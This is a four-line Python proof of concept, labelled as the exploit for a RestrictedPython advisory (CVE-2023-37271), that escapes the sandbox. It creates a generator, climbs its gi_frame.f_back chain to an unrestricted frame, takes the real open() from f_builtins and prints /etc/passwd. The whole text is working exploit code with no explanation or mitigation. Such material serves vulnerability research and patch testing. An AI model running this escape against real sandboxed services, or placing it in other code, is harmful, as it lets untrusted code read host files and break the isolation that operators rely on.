# Source: RestrictedPython CVE-2023-37271 / GHSA-wqc8-x2pr-7jqh (generator gi_frame walk)
gen = (x for x in [1])
frame = gen.gi_frame.f_back.f_back
print(frame.f_builtins["open"]("/etc/passwd").read())
